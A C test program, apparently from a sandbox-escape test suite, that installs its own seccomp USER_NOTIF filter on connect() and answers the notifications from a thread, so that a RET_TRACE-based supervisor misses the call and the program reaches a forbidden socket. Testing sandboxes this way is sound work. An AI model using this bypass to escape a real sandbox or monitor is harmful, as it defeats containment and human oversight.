/* e0503-seccomp-user-notif - a seccomp filter of the program's own whose
 * SECCOMP_RET_USER_NOTIF answer takes precedence over the tracer's.
 *
 * Attack: the program installs a filter returning SECCOMP_RET_USER_NOTIF
 * for connect(); a thread of its own (created before the filter, so not
 * filtered) receives each notification and answers
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE.  A supervisor relying on seccomp
 * RET_TRACE never sees the connect, which then reaches a forbidden
 * socket (a listener outside the jail, counting).
 * Source: janus team (DESIGN.md: "a seccomp filter of the program's own
 * with SECCOMP_RET_USER_NOTIF (it takes precedence over RET_TRACE)").
 * Usage: e0503-seccomp-user-notif FORBIDDEN-SOCKET */
#include <errno.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#if defined(__i386__)
#include <linux/net.h>
#endif

#include "escape.h"

static volatile int listener = -1, stop;

static void *answerer(void *arg)
{
	(void)arg;
	while (!stop) {
		if (listener < 0) {
			usleep(1000);
			continue;
		}
		struct pollfd p = { listener, POLLIN, 0 };
		if (poll(&p, 1, 50) <= 0)
			continue;
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		memset(&req, 0, sizeof req);
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue;
		memset(&resp, 0, sizeof resp);
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0503-seccomp-user-notif FORBIDDEN-SOCKET");
#if defined(__x86_64__) || defined(__i386__)
#if defined(__x86_64__)
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
#else
	/* i386: glibc's connect() is socketcall(SYS_CONNECT, args); the
	 * direct connect call is caught too. */
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_I386, 0, 6),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socketcall, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_CONNECT, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
#endif
	struct sock_fprog prog = { sizeof code / sizeof code[0], code };
	pthread_t t;
	if (pthread_create(&t, NULL, answerer, NULL) != 0)
		esc_die("pthread_create");
	esc_show_result("prctl PR_SET_NO_NEW_PRIVS", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	esc_show_result("seccomp filter with a listener", fd);
	if (fd >= 0)
		listener = (int)fd;
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, argv[1]);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	esc_show_result("connect to the forbidden socket", connect(s, (struct sockaddr *)&sa, len));
	close(s);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
#else
	(void)argv;
	fprintf(stderr, "SKIP: the filter is written for x86_64 and i386\n");
	return ESC_SKIP;
#endif
}
